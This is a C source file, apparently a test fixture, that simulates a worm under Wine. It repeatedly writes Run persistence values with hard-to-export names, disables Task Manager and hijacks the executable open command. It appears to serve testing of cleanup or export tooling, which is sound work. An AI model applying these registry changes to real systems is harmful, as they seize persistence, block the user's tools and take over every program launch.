/* A stand-in for the worm under Wine: every half second it writes its Run
   values, DisableTaskMgr = 1 and itself as the open command of executables. Its
   Run values have names no export can carry: one with a backslash, one outside
   Windows-1252 ("Tok" and two Chinese characters), one with a lone surrogate and
   one with a zero unit inside (through NtSetValueKey, as a worm may write it).
   Run with the argument "idle" it only sleeps: the user's unrelated program. */
#include <string.h>
#include <windows.h>
#include <winternl.h>

NTSTATUS NTAPI NtSetValueKey(HANDLE key, PUNICODE_STRING name, ULONG titleIndex, ULONG type, PVOID data, ULONG size);

static void SetString(HKEY root, const char* key, const char* name, const char* data) {
  HKEY handle;
  if (RegCreateKeyExA(root, key, 0, NULL, 0, KEY_WRITE, NULL, &handle, NULL) != ERROR_SUCCESS) return;
  RegSetValueExA(handle, name, 0, REG_SZ, (const BYTE*)data, (DWORD)strlen(data) + 1);
  RegCloseKey(handle);
}

/* A value named by length, so the name may hold anything, a zero unit too. */
static void SetCounted(HKEY root, const char* key, const WCHAR* name, USHORT units, const WCHAR* data) {
  HKEY handle;
  UNICODE_STRING counted;
  if (RegCreateKeyExA(root, key, 0, NULL, 0, KEY_WRITE, NULL, &handle, NULL) != ERROR_SUCCESS) return;
  counted.Length = (USHORT)(units * sizeof(WCHAR));
  counted.MaximumLength = counted.Length;
  counted.Buffer = (PWSTR)name;
  NtSetValueKey(handle, &counted, 0, REG_SZ, (PVOID)data, (ULONG)((wcslen(data) + 1) * sizeof(WCHAR)));
  RegCloseKey(handle);
}

static void SetDword(HKEY root, const char* key, const char* name, DWORD data) {
  HKEY handle;
  if (RegCreateKeyExA(root, key, 0, NULL, 0, KEY_WRITE, NULL, &handle, NULL) != ERROR_SUCCESS) return;
  RegSetValueExA(handle, name, 0, REG_DWORD, (const BYTE*)&data, sizeof data);
  RegCloseKey(handle);
}

int main(int argc, char** argv) {
  static const WCHAR chinese[] = {'T', 'o', 'k', 0x4E2D, 0x6587};
  static const WCHAR lone[] = {'B', 'r', 'o', 'n', 0xD800};
  static const WCHAR zero[] = {'B', 'r', 'o', 'n', 0, 'N', 'u', 'l'};
  WCHAR self[MAX_PATH];
  char selfA[MAX_PATH];
  if (argc > 1 && strcmp(argv[1], "idle") == 0) {
    Sleep(10 * 60 * 1000);
    return 0;
  }
  if (GetModuleFileNameA(NULL, selfA, sizeof selfA) >= sizeof selfA - 1 ||
      GetModuleFileNameW(NULL, self, MAX_PATH) >= MAX_PATH - 1)
    return 1;
  const char* run = "Software\\Microsoft\\Windows\\CurrentVersion\\Run";
  for (int round = 0; round < 1200; ++round) {
    SetString(HKEY_CURRENT_USER, run, "Bron-Spizaetus", selfA);
    SetString(HKEY_CURRENT_USER, run, "Bron\\Tok", selfA);
    SetCounted(HKEY_CURRENT_USER, run, chinese, 5, self);
    SetCounted(HKEY_CURRENT_USER, run, lone, 5, self);
    SetCounted(HKEY_CURRENT_USER, run, zero, 8, self);
    SetDword(HKEY_CURRENT_USER, "Software\\Microsoft\\Windows\\CurrentVersion\\Policies\\System", "DisableTaskMgr", 1);
    SetString(HKEY_LOCAL_MACHINE, "Software\\Classes\\exefile\\shell\\open\\command", "", selfA);
    Sleep(500);
  }
  return 0;
}
